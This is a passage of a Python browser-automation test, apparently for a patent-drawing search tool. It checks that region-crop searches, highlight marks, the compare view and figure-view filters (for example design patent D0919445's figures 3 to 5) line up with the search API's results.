    drag_crop(app, 0.55, 0.12, 0.98, 0.42)
    response = _wait_search(app, lambda: app.click("#search-button"))
    hits = response["hits"]
    assert {h["matched"] for h in hits} & {"part", "figure"}, hits
    assert all(h["region"] for h in hits)  # every sheet of the corpus has parts
    app.wait_for_selector("#results .card img[data-loaded]")
    marks = _marks(app, "#results .card .mark.match")
    assert len(marks) == len(hits) and all(
        abs(a - b) < 1e-3 for m, h in zip(marks, hits, strict=True)
        for a, b in zip(m["region"], h["region"], strict=True))
    loaded = app.eval_on_selector_all("#results .card", "cards => cards.map(c => "
                                      "!!c.querySelector('img[data-loaded]'))")
    for mark, hit, ready in zip(marks, hits, loaded, strict=True):
        assert mark["label"].startswith("matched here")
        if ready:  # drawn over the drawing where the region is (fractions of the sheet)
            assert all(abs(a - b) < 0.02 for a, b in zip(mark["at"], hit["region"],
                                                         strict=True)), (mark, hit)
    app.locator("#results .card").first.locator("[data-act=compare]").click()
    app.click("#compare-button")
    app.wait_for_selector("#compare-view[open]")
    app.wait_for_function("() => document.querySelectorAll('#compare-panes img[src^=\"blob:\"]')"
                          ".length === 2")
    pane = _marks(app, "#compare-panes .mark.match")
    assert len(pane) == 1 and all(abs(a - b) < 0.02 for a, b in zip(
        pane[0]["at"], hits[0]["region"], strict=True)), pane
    app.keyboard.press("Escape")

    _search_text(app, "dispenser bottle")
    app.locator("#results .card[data-patent='D0919445'] .thumb").first.click()
    app.wait_for_selector("#patent-view[open]")
    app.wait_for_selector("#patent-sheets figure[data-sheet='2'] img[data-loaded]")
    figures = _marks(app, "#patent-sheets figure[data-sheet='2'] .mark.figure")
    assert [m["label"] for m in figures] == ["FIG. 3 (right)", "FIG. 4 (top)",
                                             "FIG. 5 (bottom)"], figures
    assert "FIG. 3, 4, 5" in app.inner_text("#patent-sheets figure[data-sheet='2']")
    top = _api_search(app, {"text": "dispenser bottle", "filters": {"views": ["top"]}})
    found = next(h for h in top["hits"] if h["patent"] == "D0919445")
    assert found["figures"] == ["4"] and found["view"] == "top" and found["sheet"] == 2, found
